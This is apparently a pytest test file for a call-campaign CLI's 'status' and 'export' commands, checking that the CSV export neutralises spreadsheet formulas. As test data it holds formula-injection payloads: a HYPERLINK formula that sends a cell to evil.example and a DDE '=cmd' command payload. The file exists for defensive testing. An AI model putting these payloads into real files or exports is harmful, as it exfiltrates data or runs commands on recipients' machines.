"""``outdial status`` and ``outdial export`` on both databases."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime
from pathlib import Path

import pytest
from sqlalchemy import Engine
from typer.testing import CliRunner

from outdial.cli import app as cli
from outdial.models import JobState
from outdial.services.campaigns import LeadIn, add_leads, create_campaign
from outdial.services.export import neutralise
from outdial.services.timing.spec import TimingFields
from outdial.settings import Settings
from outdial.store import campaigns as campaign_store
from outdial.store import jobs as job_store

INJECTED = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.fixture
def campaign(engine: Engine, settings: Settings, monkeypatch: pytest.MonkeyPatch) -> int:
    """A campaign of three leads: one completed after two calls, one rejected, one still scheduled."""
    monkeypatch.setenv("OUTDIAL_DATABASE_URL", engine.url.render_as_string(hide_password=False))
    now = datetime.now(UTC)
    campaign_id = create_campaign(engine, settings, "autumn", "ck", TimingFields(callee_hours=None), now)
    with engine.connect() as conn:
        row = campaign_store.by_id(conn, campaign_id)
    assert row is not None
    leads = [
        LeadIn("+12125551234", {"name": INJECTED, "note": "-2+3", "plan": "@SUM(1)"}),
        LeadIn("+12125551235", {"name": "Ravi", "amount": "-42.5", "state": "NY"}),
        LeadIn("+12125551236", {"name": "\tTabbed"}),
    ]
    add_leads(engine, settings, row, leads, now)
    with engine.begin() as conn:
        first, second, _ = job_store.jobs_in(conn, [1, 2, 3])
        for call_id in ("call-a", "call-b"):
            if call_id == "call-b":
                job_store.schedule_retry(conn, first.id, JobState.DIALING, now, "next attempt")
            job_store.claim(conn, [first.id], now)
            started = job_store.begin_dial(conn, job_store.get_job(conn, first.id), "callkaro", now)
            assert started is not None
            job_store.record_response(conn, started.attempt_id, result="accepted", provider_call_id=call_id)
        # What CallKaro's webhook reported about the second call, under its own names.
        reported = {"call_duration": 74, "recording_url": "https://rec.example/b.mp3", "summary": "=cmd|' /C calc'!A0"}
        job_store.settle_attempt(conn, started.attempt_id, "completed", "CLIENT_INITIATED", now, reported)
        job_store.complete(conn, first.id, JobState.DIALING, now, None, last_outcome="completed")
        job_store.claim(conn, [second.id], now)
        started = job_store.begin_dial(conn, job_store.get_job(conn, second.id), "callkaro", now)
        assert started is not None
        job_store.record_response(conn, started.attempt_id, result="rejected", http_status=401, error="bad key")
        job_store.reject(conn, second.id, JobState.DIALING, now, "provider: bad key", reason="provider: bad key")
    return campaign_id


def test_neutralise_formulas_but_not_plain_numbers() -> None:
    for dangerous in ("=1+1", "+SUM(A1)", "-2+3", "@SUM(1)", "\tx", "\rx", INJECTED):
        assert neutralise(dangerous) == "'" + dangerous
    for harmless in ("+14155550123", "-42.5", "42", "Asha", "", "a=b"):
        assert neutralise(harmless) == harmless


def test_status_json_is_one_snapshot(campaign: int) -> None:
    result = CliRunner().invoke(cli, ["status", "autumn", "--json"])
    assert result.exit_code == 0, result.output
    snap = json.loads(result.stdout)
    assert snap["id"] == campaign and snap["jobs"] == 3 and snap["done"] == 2 and not snap["finished"]
    assert {k: v for k, v in snap["counts"].items() if v} == {"completed": 1, "rejected": 1, "scheduled": 1}
    assert snap["dial_rate"]["attempts"] == 3
    assert snap["next_due_at"] is not None
    assert [(e["http_status"], e["error"]) for e in snap["recent_errors"]] == [(401, "bad key")]


def test_status_live_view_stops_when_every_job_is_final(campaign: int, engine: Engine) -> None:
    with engine.begin() as conn:
        job_store.cancel(conn, 3, JobState.SCHEDULED, datetime.now(UTC))
    result = CliRunner().invoke(cli, ["status", "autumn", "--interval", "0.2"])
    assert result.exit_code == 0, result.output
    for shown in ("autumn", "3/3 done", "completed", "rejected", "cancelled", "bad key", "nothing scheduled"):
        assert shown in result.stdout, shown


def test_an_unknown_campaign_exits_1_as_in_every_command(campaign: int, tmp_path: Path) -> None:
    # One convention (README): 0 done, 1 refused as things stand (a missing campaign), 2 bad input.
    for args in (["status", "nope", "--json"], ["export", "nope", "--out", str(tmp_path / "x.csv")]):
        result = CliRunner().invoke(cli, args)
        assert result.exit_code == 1 and "no campaign named 'nope'" in result.stderr, args


def test_status_of_one_job_shows_its_attempts_and_history(campaign: int) -> None:
    result = CliRunner().invoke(cli, ["status", "--job", "1", "--json"])
    assert result.exit_code == 0, result.output
    job = json.loads(result.stdout)
    assert (job["id"], job["state"], [a["provider_call_id"] for a in job["attempts"]]) == (
        1,
        "completed",
        ["call-a", "call-b"],
    )
    assert [(e["from"], e["to"], e["attempt"]) for e in job["events"]] == [
        ("scheduled", "queued", 0),
        ("queued", "dialing", 1),
        ("dialing", "scheduled", 1),
        ("scheduled", "queued", 1),
        ("queued", "dialing", 2),
        ("dialing", "completed", 2),
    ]
    shown = CliRunner().invoke(cli, ["status", "--job", "2"], env={"COLUMNS": "200"})
    assert shown.exit_code == 0, shown.output
    for text in ("job 2", "rejected", "history", "queued", "dialing", "provider: bad key"):
        assert text in shown.stdout, text
    missing = CliRunner().invoke(cli, ["status", "--job", "99"])
    assert missing.exit_code == 1 and "no job 99" in missing.stderr
    neither = CliRunner().invoke(cli, ["status"])
    assert neither.exit_code == 2 and "--job" in neither.stderr


def test_export_one_row_per_job_with_formulas_neutralised(campaign: int, tmp_path: Path) -> None:
    out = tmp_path / "autumn.csv"
    result = CliRunner().invoke(cli, ["export", "autumn", "--out", str(out)])
    assert result.exit_code == 0, result.output
    assert "3 jobs written" in result.stderr
    with out.open(newline="", encoding="utf-8") as stream:
        rows = list(csv.DictReader(stream))
    assert [r["job_id"] for r in rows] == ["1", "2", "3"]
    first, second, third = rows
    assert (first["state"], first["outcome"], first["attempts"]) == ("completed", "completed", "2")
    assert first["provider_call_ids"] == "call-a call-b"
    assert first["to_number"] == "+12125551234"  # a phone number is data, not a formula
    assert first["name"] == "'" + INJECTED
    # The provider's result data of the newest attempt, under one set of names (formulas neutralised too).
    assert (first["raw_status"], first["duration_s"], first["recording_url"]) == (
        "CLIENT_INITIATED",
        "74",
        "https://rec.example/b.mp3",
    )
    assert first["summary"] == "'=cmd|' /C calc'!A0" and first["transcript"] == ""
    assert second["duration_s"] == second["recording_url"] == ""
    assert (first["note"], first["plan"]) == ("'-2+3", "'@SUM(1)")
    assert (second["state"], second["reason"], second["provider_call_ids"]) == ("rejected", "provider: bad key", "")
    assert second["amount"] == "-42.5"
    assert second["var:state"] == "NY" and second["state"] == "rejected"  # a variable never hides a column
    assert third["name"] == "'\tTabbed" and third["state"] == "scheduled" and third["attempts"] == "0"
    # To standard output as well, byte for byte the same.
    printed = CliRunner().invoke(cli, ["export", "autumn"])
    assert list(csv.DictReader(io.StringIO(printed.stdout))) == rows


def test_export_to_a_place_that_cannot_be_written_is_bad_input_naming_it(campaign: int, tmp_path: Path) -> None:
    for out in (tmp_path / "no-such-folder" / "x.csv", tmp_path):  # a missing folder; a folder itself
        result = CliRunner().invoke(cli, ["export", "autumn", "--out", str(out)])
        assert result.exit_code == 2, result.output
        assert result.stderr.startswith(f"error: --out: cannot write {out}:"), result.stderr
